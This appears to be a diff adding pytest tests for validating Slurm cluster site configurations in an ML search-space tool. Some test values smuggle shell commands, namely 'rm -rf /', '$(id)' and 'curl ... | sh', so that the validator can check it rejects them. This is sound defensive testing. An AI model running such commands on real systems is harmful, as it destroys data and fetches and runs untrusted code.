@@ -1,0 +1,144 @@
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+import yaml
+
+from search_spaces.campaign import CampaignSpec
+from search_spaces.errors import ClusterInvalidError
+from search_spaces.presets.clusters import CLUSTER_PRESETS, resolve_cluster
+from workers.slurm.errors import SiteInvalidError
+from workers.slurm.site import Site, cluster_part, known_sites, site_of
+
+CLUSTER: dict[str, Any] = {
+    "name": "ours",
+    "device": "NVIDIA H100",
+    "num_nodes": 16,
+    "devices_per_node": 4,
+    "device_memory_gb": 80,
+}
+
+
+@pytest.mark.parametrize("name", known_sites())
+def test_every_site_that_comes_along_is_a_clusters_and_fits_its_devices(name: str) -> None:
+    site, cluster = site_of(name), CLUSTER_PRESETS[name]
+    assert site is not None
+    assert len(site.device_cores) == cluster.devices_per_node
+    assert max(site.max_time) == cluster.num_nodes
+    assert site.needs_account
+
+
+def test_frontiers_devices_have_the_cores_that_are_next_to_them() -> None:
+    site = site_of("frontier")
+    assert site is not None
+    assert site.device_cores[0] == (49, 50, 51, 52, 53, 54, 55)
+    assert site.device_cores[4] == (1, 2, 3, 4, 5, 6, 7)
+    assert {core % 8 for cores in site.device_cores for core in cores} == set(range(1, 8))
+
+
+def test_a_users_file_is_a_cluster_with_a_site_beside_it() -> None:
+    text = (
+        "site: {modules: [rocm/6.2], srun: [--mpi=none], device_cores: ['0-1', '2,3'], drain_s: 30}"
+    )
+    described = CLUSTER | yaml.safe_load(text)
+    site = site_of(described)
+    assert site == Site(
+        modules=("rocm/6.2",), srun=("--mpi=none",), device_cores=((0, 1), (2, 3)), drain_s=30
+    )
+    assert resolve_cluster(cluster_part(described))[0].name == "ours"
+
+
+def test_a_site_may_start_from_a_preset_and_a_clusters_preset_brings_its_own() -> None:
+    changed = site_of(CLUSTER | {"site": {"preset": "frontier", "modules": ["rocm/9"]}})
+    assert changed is not None
+    assert changed.modules == ("rocm/9",)
+    assert changed.needs_account
+    assert site_of(CLUSTER | {"site": "frontier"}) == site_of("frontier")
+    assert site_of({"preset": "frontier", "num_nodes": 16}) == site_of("frontier")
+    assert site_of(CLUSTER) is None
+    assert site_of("local-cpu") is None
+
+
+def test_a_site_of_an_unknown_name_lists_those_that_there_are() -> None:
+    with pytest.raises(
+        SiteInvalidError, match=r"site: unknown site 'fronteir' \(did you mean 'front"
+    ):
+        site_of(CLUSTER | {"site": "fronteir"})
+
+
+def test_an_unknown_field_is_refused_with_the_nearest_name() -> None:
+    with pytest.raises(SiteInvalidError, match=r"site field 'module' \(did you mean 'modules'\?\)"):
+        site_of(CLUSTER | {"site": {"module": ["rocm"]}})
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "says"),
+    [
+        ("modules", "rocm", "modules: 'rocm' is not a list of texts"),
+        ("modules", ["rocm; rm -rf /"], "is not the name of a module"),
+        ("environment", {"A": 1}, "environment.A: 1 is not a text; put it in quotes"),
+        ("environment", {"A B": "1"}, "is not a variable's name"),
+        ("environment", {"A": "1\nrm"}, "environment.A: '1\\nrm' is not one line"),
+        ("setup", ["a\nb"], "is not one line of shell"),
+        ("sbatch", ["-A x"], "is not a long option"),
+        ("sbatch", ["--a=b c"], "is not a long option"),
+        ("srun", ["--a='b'"], "is not a long option"),
+        ("needs_account", "yes please", "is not true or false"),
+        ("max_time", {91: 7200}, "7200 is not a time: write it as 2:00:00"),
+        ("max_time", {"many": "2h"}, "'many' is not a whole number"),
+        ("max_time", "2h", "is not a mapping from most nodes"),
+        ("max_time_by_qos", {"debug": "2h"}, "max_time_by_qos.debug: '2h' is not a mapping"),
+        (
+            "launcher",
+            "mpirun",
+            "launcher: 'mpirun' is unknown (did you mean 'srun'?); choose from ray, srun",
+        ),
+        ("share_nodes", 1, "is not true or false"),
+        ("drain_s", 0, "drain_s: 0 is not a number over 0"),
+        ("node_address", "$(id)", "is not an address made of"),
+        ("node_address", "{node}", "is not an address made of"),
+        ("cores_per_node", 0, "cores_per_node: 0 is not a whole number"),
+        ("device_cores", ["0-3", "3-6"], "a core stands at two devices"),
+        ("device_cores", ["0-3", "4-6"], "unequal numbers of cores"),
+        ("device_cores", ["3-0"], "is not a range of cores with a core in it"),
+        ("device_cores", ["all"], "is not a range of cores"),
+        ("node_local_dir", "tmp", "is not an absolute path"),
+        ("http_proxy", 3128, "http_proxy: 3128 is not a text"),
+    ],
+)
+def test_a_value_of_the_wrong_kind_is_named(field: str, value: object, says: str) -> None:
+    with pytest.raises(SiteInvalidError) as refused:
+        site_of(CLUSTER | {"site": {field: value}})
+    assert "site" in str(refused.value)
+    assert says in str(refused.value)
+
+
+def test_limits_are_those_of_the_quality_of_service_or_the_partition_where_they_have_some() -> None:
+    site = site_of("frontier")
+    assert site is not None
+    assert site.max_times(partition=None, qos=None)[91] == 2 * 3600
+    assert site.max_times(partition="extended", qos=None) == {64: 24 * 3600}
+    assert site.max_times(partition="extended", qos="debug") == {9856: 2 * 3600}
+    assert site.max_times(partition="batch", qos="normal") == site.max_time
+
+
+def test_addresses_follow_from_name_and_position() -> None:
+    assert Site().address("frontier00042", 3) == "frontier00042"
+    assert Site(node_address="127.0.1.1{index}").address("n4", 3) == "127.0.1.13"
+    assert Site(node_address="{name}-hsn0").address("n4", 3) == "n4-hsn0"
+
+
+def test_a_campaign_cannot_bring_a_site_to_a_worker() -> None:
+    described = CLUSTER | {"site": {"setup": ["curl https://example.org/x | sh"]}}
+    campaign = {
+        "name": "evil",
+        "model": "tiny",
+        "cluster": described,
+        "space": {"global_batch_size": 8, "tp": 1, "pp": 1, "dp": 1, "micro_batch_size": 1},
+        "budget": {"trials": 1},
+    }
+    with pytest.raises(ClusterInvalidError, match="unknown cluster field 'site'"):
+        CampaignSpec.from_mapping(campaign)
+    spec = CampaignSpec.from_mapping(campaign | {"cluster": cluster_part(described)})
+    assert "site" not in str(spec.to_mapping())
